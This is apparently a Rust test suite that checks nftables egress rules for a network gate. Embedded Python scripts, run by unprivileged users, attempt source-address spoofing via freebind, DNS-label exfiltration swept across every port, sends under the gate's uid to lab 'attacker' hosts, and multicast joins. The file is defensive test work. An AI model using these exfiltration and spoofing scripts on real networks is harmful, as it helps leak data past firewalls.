//! Attacks on the firewall rules from inside: unprivileged processes that bind foreign addresses or send
//! from the gate's ports, and processes with the gate's user id.

use std::fs;
use std::net::{IpAddr, SocketAddr, TcpListener};
use std::path::Path;
use std::process::Command;

use nix::mount::{MsFlags, mount};
use socket2::{Domain, Socket, Type};

use crate::doctor::host_policy;
use crate::gateway::CAPTURES;
use crate::harness::{
    ATTACKER, Attacker, Blobs, Daemon, Family, GATE_USER, INSIDE, Lab, NO_CAPABILITIES, Place,
    Policy, RESOLVER, Way, find, resolver, wait_until,
};

pub(crate) const GATEWAY: Way = Way::In(Place::Gateway);

/// The uid of an unprivileged user.
pub(crate) const ORDINARY: &str = "1000";

pub(crate) fn ip(text: &str) -> IpAddr {
    text.parse().unwrap()
}

/// Returns a command that runs a Python script as a user without capabilities.
pub(crate) fn python(place: Place, user: &str, script: &str, arguments: &[&str]) -> Command {
    let mut command = place.command(user, NO_CAPABILITIES, &find("timeout"));
    // Not from PATH: every user must be able to run it.
    command.args(["--signal=KILL", "60", "/usr/bin/python3", "-c", script]).args(arguments);
    command
}

#[track_caller]
pub(crate) fn ran(mut command: Command) -> String {
    let output = command.output().unwrap();
    let text = String::from_utf8_lossy(&output.stdout) + String::from_utf8_lossy(&output.stderr);
    assert!(output.status.success(), "{text}");
    text.into_owned()
}

/// Binds the attacker's address, for which `IPV6_FREEBIND` needs no privilege, and sends from it to this
/// host: to its own socket, to closed ports and to listeners, over UDP, TCP and ICMP. Then sends an
/// answer, as soon as the file `go` exists.
const FREEBIND: &str = r#"
import os, socket, sys, time
attacker, own, ready, go, port = sys.argv[1:6]
v6 = ":" in attacker
family = socket.AF_INET6 if v6 else socket.AF_INET

def tried(work):
    try:
        return work()
    except OSError as error:
        return error

def forged(kind, protocol=0, port=0):
    made = socket.socket(family, kind, protocol)
    made.setsockopt(*((41, 78, 1) if v6 else (0, 15, 1)))
    made.bind((attacker, port))
    made.setblocking(False)
    return made

hears = socket.socket(family, socket.SOCK_DGRAM)
hears.bind((own, 0))
listens = socket.socket(family, socket.SOCK_STREAM)
listens.bind((own, 0))
listens.listen()
datagrams = forged(socket.SOCK_DGRAM, port=int(port))
said = [tried(lambda: datagrams.sendto(b"first", hears.getsockname()))]
for port in [9, 53, 3128]:
    said.append(tried(lambda: datagrams.sendto(b"secret" * 150, (own, port))))
streams = []
for port in [listens.getsockname()[1], 9, 443, 3128]:
    stream = forged(socket.SOCK_STREAM)
    tried(lambda: stream.connect((own, port)))
    streams.append(stream)
def ping():
    pinging = forged(socket.SOCK_DGRAM, socket.IPPROTO_ICMPV6 if v6 else socket.IPPROTO_ICMP)
    return pinging.sendto(bytes([128 if v6 else 8, 0, 0, 0, 0, 0, 0, 0]) + b"secret" * 50, (own, 0))
said.append(tried(ping))
open(ready, "w").close()
while not os.path.exists(go):
    time.sleep(0.01)
said.append(tried(lambda: hears.sendto(b"secret" * 150, (attacker, int(port)))))
print(said)
"#;

/// Runs [`FREEBIND`] against every address of the host, and `between` before the answers are sent.
fn freebind(lab: &Lab, between: impl Fn()) -> String {
    let exchange = lab.dir().join("exchange");
    fs::create_dir_all(&exchange).unwrap();
    use std::os::unix::fs::PermissionsExt as _;
    fs::set_permissions(&exchange, fs::Permissions::from_mode(0o777)).unwrap();
    let pairs = [
        (ATTACKER[0], "198.51.100.1"),
        (ATTACKER[0], INSIDE[0]),
        (ATTACKER[1], "2001:db8::1"),
        (ATTACKER[1], INSIDE[1]),
    ];
    let file = |name: &str, at: usize| exchange.join(format!("{name}-{at}"));
    let mut begun = Vec::new();
    for (at, (attacker, own)) in pairs.iter().enumerate() {
        let (ready, go) = (file("ready", at), file("go", at));
        let _ = (fs::remove_file(&ready), fs::remove_file(&go));
        let port = (4440 + at).to_string();
        let arguments = [attacker, own, ready.to_str().unwrap(), go.to_str().unwrap(), &port];
        let command = python(Place::Gateway, ORDINARY, FREEBIND, &arguments);
        begun.push(Daemon::start(&format!("freebind-{at}"), lab.dir(), &mut { command }, None));
    }
    for (at, program) in begun.iter_mut().enumerate() {
        wait_until("it has begun", || {
            program.assert_alive();
            file("ready", at).exists().then_some(())
        });
    }
    between();
    (0..begun.len()).for_each(|at| fs::write(file("go", at), "").unwrap());
    let mut said = String::new();
    for mut program in begun {
        let status = wait_until("it ends", || program.ended());
        said += &program.log();
        assert!(status.success(), "{said}");
    }
    said
}

/// Returns a rule file of `deploy/`, with the addresses of the lab.
pub(crate) fn delivered(name: &str) -> String {
    let path = Path::new(env!("CARGO_MANIFEST_DIR")).join("deploy/nftables").join(name);
    let text = fs::read_to_string(path).unwrap();
    let text = text.replace("resolvers = { 10.0.0.53 }", "resolvers = { 198.51.100.53 }");
    text.replace("define gate = 10.0.0.10", "define gate = 198.51.100.254")
}

/// Returns the rules for a client that the README prints, with the addresses of the lab.
pub(crate) fn readme() -> String {
    let path = Path::new(env!("CARGO_MANIFEST_DIR")).join("README.md");
    let text = fs::read_to_string(path).unwrap();
    let (_, rules) = text.split_once("```nft\n").unwrap();
    rules.split_once("```\n").unwrap().0.replace("10.0.0.10", "198.51.100.254")
}

/// Returns the rules for a client whose gate is another host, by name, and their fallback.
pub(crate) fn without_gate() -> [(&'static str, String); 3] {
    let [client, closed] = ["client.nft", "closed.nft"].map(|name| (name, delivered(name)));
    [client, closed, ("README.md", readme())]
}

/// Calls `work` with the name and the text of each rule set for a host with a gate, while a gate runs
/// that uses this DNS server.
pub(crate) fn behind_each(lab: &Lab, server: &str, work: impl Fn(&str, &str)) {
    let dns = format!("[dns]\nservers = [\"{server}\"]\n");
    for (capture, capabilities, _) in CAPTURES {
        let _gate = lab.gate_on_gateway(capabilities, &host_policy(capture).with_dns(&dns));
        let kind = if capture == "tproxy" { "tproxy" } else { "nftables" };
        work(capture, &lab.kit(&format!("{kind} --user {GATE_USER}")));
    }
    let policy = Policy::of(&["contoso", "fabrikam"]).with_dns(&dns);
    let _gate = lab.gate_on_gateway("+net_bind_service", &policy);
    let rules = delivered("same-host.nft").replace("198.51.100.53", server);
    let daddr = if server.contains(':') { "ip6 daddr $resolvers" } else { "ip daddr $resolvers" };
    work("same-host.nft", &rules.replace("ip daddr $resolvers", daddr));
}

/// Waits until packets that were sent before have arrived or are lost: a connection from outside
/// succeeds on the same cable.
pub(crate) fn settle() {
    for (from, own) in [("198.51.100.254", "198.51.100.1"), ("2001:db8::254", "2001:db8::1")] {
        let listener = Place::Gateway.inside(|| TcpListener::bind((ip(own), 0)).unwrap());
        let domain = if ip(own).is_ipv4() { Domain::IPV4 } else { Domain::IPV6 };
        let socket = Socket::new(domain, Type::STREAM, None).unwrap();
        socket.bind(&SocketAddr::new(ip(from), 0).into()).unwrap();
        socket.connect(&listener.local_addr().unwrap().into()).unwrap();
    }
}

#[test]
fn an_unprivileged_process_cannot_send_from_a_foreign_address() {
    let lab = Lab::with_gateway(Blobs::DataEndpoint);
    let _resolver = resolver(&lab, &[Family::V4]);
    let attacker = Attacker::start(&lab);
    lab.route_captured();
    // As distributions have it: everybody may send echo requests.
    let pings = "/proc/sys/net/ipv4/ping_group_range";
    Place::Gateway.inside(|| fs::write(pings, "0 1000").unwrap());
    let holds = |wall: &str, rules: &str| {
        lab.load(rules);
        attacker.forget();
        let said = freebind(&lab, || ());
        settle();
        assert_eq!(attacker.reached(), 0, "{wall}: {said}");
    };
    behind_each(&lab, RESOLVER[0], holds);
    for (name, rules) in without_gate() {
        holds(name, &rules);
    }
    // Without rules the attacker is reached, so the counters work.
    lab.load(TRACKED);
    attacker.forget();
    freebind(&lab, || ());
    wait_until("he is reached", || (attacker.reached() > 0).then_some(()));
}

/// Rules under which connections are tracked.
const TRACKED: &str = "table inet before {
    chain output { type filter hook output priority filter; ct state established accept; }
}";

#[test]
fn nor_from_one_that_it_bound_before_the_rules_were_loaded() {
    let lab = Lab::with_gateway(Blobs::DataEndpoint);
    let _resolver = resolver(&lab, &[Family::V4]);
    let attacker = Attacker::start(&lab);
    lab.route_captured();
    let holds = |wall: &str, rules: &str| {
        lab.load(TRACKED);
        let said = freebind(&lab, || {
            lab.load(rules);
            settle();
            attacker.forget();
        });
        settle();
        assert_eq!(attacker.reached(), 0, "{wall}: {said}");
    };
    behind_each(&lab, RESOLVER[0], holds);
    for (name, rules) in without_gate() {
        holds(name, &rules);
    }
}

/// Queries a DNS server from every unprivileged port.
const SWEEP: &str = r#"
import socket, sys
server = sys.argv[1]
family = socket.AF_INET6 if ":" in server else socket.AF_INET
label = b"\x06secret"
query = b"\x12\x34\x01\x00\x00\x01" + bytes(6) + label + b"\x07example\x03com\x00\x00\x01\x00\x01"
sent = 0
for port in range(1024, 65536):
    with socket.socket(family, socket.SOCK_DGRAM) as made:
        try:
            made.bind(("", port))
            made.sendto(query, (server, 53))
            sent += 1
        except OSError:
            pass
print(sent, "sent")
"#;

#[test]
fn other_users_cannot_query_dns_from_the_gates_ports() {
    let lab = Lab::with_gateway(Blobs::DataEndpoint);
    let resolver = resolver(&lab, &[Family::V4]);
    lab.route_captured();
    for server in RESOLVER {
        behind_each(&lab, server, |wall, rules| {
            lab.load(rules);
            // The gate sends a query; conntrack remembers it for 30 seconds.
            let line =
                "curl -sS -o /dev/null -x http://127.0.0.1:3128 https://contoso.azurecr.io/v2/";
            lab.sh(GATEWAY, line).succeeded();
            let said = ran(python(Place::Gateway, ORDINARY, SWEEP, &[server]));
            // The gate's next query arrives after everything that was sent before.
            let line =
                "curl -sS -o /dev/null -x http://127.0.0.1:3128 https://fabrikam.azurecr.io/v2/";
            lab.sh(GATEWAY, line).succeeded();
            assert!(!resolver.log().contains("secret"), "{wall}: {said}{}", resolver.log());
        });
    }
    lab.load("");
    ran(python(Place::Gateway, ORDINARY, SWEEP, &[RESOLVER[0]]));
    wait_until("it is asked", || resolver.log().contains("secret").then_some(()));
}

/// Joins multicast groups of its choice.
const JOIN: &str = r#"
import socket, struct
index = socket.if_nametoindex("outside")
v6 = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
for group in ["ff1e::5ec:2e7", "ff02::1:ff5e:c2e7"]:
    v6.setsockopt(41, 20, socket.inet_pton(socket.AF_INET6, group) + struct.pack("@I", index))
v4 = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
v4.setsockopt(0, 35, socket.inet_aton("239.94.194.231") + struct.pack("@4si", bytes(4), index))
"#;

#[test]
fn multicast_groups_that_a_program_joins_are_not_reported() {
    let lab = Lab::with_gateway(Blobs::DataEndpoint);
    let _resolver = resolver(&lab, &[Family::V4]);
    let counting = "table inet groups {
        counter announced {}
        chain seen {
            type filter hook prerouting priority filter
            icmpv6 type { mld-listener-report, mld2-listener-report, mld-listener-done } \
                counter name announced
            meta l4proto igmp counter name announced
        }
    }";
    assert!(Command::new(find("nft")).arg(counting).status().unwrap().success());
    let announced = |reset: &str| {
        let words = [reset, "counter", "inet", "groups", "announced"];
        let listed = Command::new(find("nft")).args(words).output().unwrap();
        String::from_utf8_lossy(&listed.stdout).into_owned()
    };
    lab.route_captured();
    behind_each(&lab, RESOLVER[0], |wall, rules| {
        lab.load(rules);
        settle();
        announced("reset");
        ran(python(Place::Gateway, ORDINARY, JOIN, &[]));
        settle();
        let announced = announced("list");
        assert!(announced.contains("packets 0 "), "{wall}: {announced}");
    });
    lab.load("");
    announced("reset");
    wait_until("neighbours are announced", || {
        ran(python(Place::Gateway, ORDINARY, JOIN, &[]));
        (!announced("list").contains("packets 0 ")).then_some(())
    });
}

/// Cgroups, where nft looks for them.
struct Cgroups {
    /// The gate's.
    gate: String,
    /// One that the other processes of the test are not in.
    other: String,
    /// Whether it was made for the test, which only root and the owner of the parent can do.
    is_made: bool,
}

impl Cgroups {
    const AT: &str = "/sys/fs/cgroup";

    /// Returns `None` for an ordinary user of a machine without any cgroup.
    fn find() -> Option<Self> {
        let none = None::<&str>;
        if mount(Some("cgroup2"), Self::AT, Some("cgroup2"), MsFlags::empty(), none).is_err()
            && !Path::new(Self::AT).join("cgroup.procs").exists()
        {
            // A machine with both versions.
            let unified = Path::new(Self::AT).join("unified");
            mount(Some(&unified), Self::AT, none, MsFlags::MS_BIND, none).unwrap();
        }
        let own = fs::read_to_string("/proc/self/cgroup").unwrap();
        let own = own.lines().find_map(|line| line.strip_prefix("0::/")).unwrap();
        let made = Path::new(own).join(format!("pullgate-test-{}", std::process::id()));
        if fs::create_dir_all(Path::new(Self::AT).join(&made)).is_ok() {
            let made = made.to_str().unwrap().to_owned();
            return Some(Self { gate: made.clone(), other: made, is_made: true });
        }
        let mut others = fs::read_dir(Self::AT).unwrap().map(Result::unwrap);
        let other = others.find(|other| {
            let is_ours = Path::new(own).starts_with(other.file_name());
            other.file_type().unwrap().is_dir() && !is_ours
        });
        let other = other?.file_name().into_string().unwrap();
        (!own.is_empty()).then(|| Self { gate: own.to_owned(), other, is_made: false })
    }

    fn take(&self, process: u32) {
        if self.is_made {
            let procs = Path::new(Self::AT).join(&self.gate).join("cgroup.procs");
            fs::write(procs, process.to_string()).unwrap();
        }
    }
}

impl Drop for Cgroups {
    fn drop(&mut self) {
        if self.is_made {
            let _ = fs::remove_dir(Path::new(Self::AT).join(&self.gate));
        }
    }
}

/// Sends what the gate is allowed to send.
const CONNECT: &str = r#"
import socket, sys
for host in sys.argv[1:]:
    family = socket.AF_INET6 if ":" in host else socket.AF_INET
    with socket.socket(family, socket.SOCK_STREAM) as made:
        made.settimeout(0.4)
        try:
            made.connect((host, 443))
            made.send(b"secret")
        except OSError as error:
            print(host, error)
    with socket.socket(family, socket.SOCK_DGRAM) as made:
        try:
            made.sendto(b"\x12\x34\x01\x00\x00\x01" + bytes(6) + b"\x06secret\x00\x00\x01\x00\x01",
                        (host.replace("66", "53"), 53))
        except OSError as error:
            print(host, error)
"#;

#[test]
fn a_process_with_the_gates_uid_outside_its_cgroup_is_not_the_gate() {
    let lab = Lab::with_gateway(Blobs::DataEndpoint);
    let resolver = resolver(&lab, &[Family::V4]);
    let attacker = Attacker::start(&lab);
    lab.route_captured();
    lab.resolve_by(Place::Gateway, &["127.0.0.1"]);
    let cgroups = Cgroups::find();
    let load = |rules: &str| {
        let file = lab.dir().join("rules.nft");
        fs::write(&file, format!("flush ruleset\n{rules}")).unwrap();
        // `ip netns exec` mounts another /sys, without the cgroups.
        let nft = || Command::new(find("nft")).arg("-f").arg(&file).output().unwrap();
        let loaded = Place::Gateway.inside(nft);
        let said = String::from_utf8_lossy(&loaded.stderr).into_owned();
        if loaded.status.success() { Ok(()) } else { Err(said) }
    };
    for (capture, capabilities, _) in CAPTURES {
        let gate = lab.gate_on_gateway(capabilities, &host_policy(capture));
        let kind = if capture == "tproxy" { "tproxy" } else { "nftables" };
        let kit = format!("{kind} --user {GATE_USER}");
        let rules = |cgroup: &str| lab.kit(&format!("{kit} --cgroup {cgroup}"));
        let refused = load(&rules("absent.slice")).unwrap_err();
        assert!(refused.contains("cgroupv2"), "{refused}");
        let Some(cgroups) = &cgroups else { continue };
        cgroups.take(gate.pid());
        load(&rules(&cgroups.gate)).unwrap();
        lab.sh(GATEWAY, "curl -sS -o /dev/null https://contoso.azurecr.io/v2/").succeeded();
        load(&rules(&cgroups.other)).unwrap();
        attacker.forget();
        let said = ran(python(Place::Gateway, GATE_USER, CONNECT, &ATTACKER));
        assert_eq!(attacker.reached(), 0, "{capture}: {said}");
        assert!(!resolver.log().contains("secret"), "{capture}: {said}");
    }
    // Rules without `--cgroup` cannot tell the two apart.
    let (capture, capabilities, _) = CAPTURES[0];
    let _gate = lab.gate_on_gateway(capabilities, &host_policy(capture));
    load(&lab.kit(&format!("nftables --user {GATE_USER}"))).unwrap();
    ran(python(Place::Gateway, GATE_USER, CONNECT, &ATTACKER));
    wait_until("he is reached", || (attacker.reached() > 0).then_some(()));
}
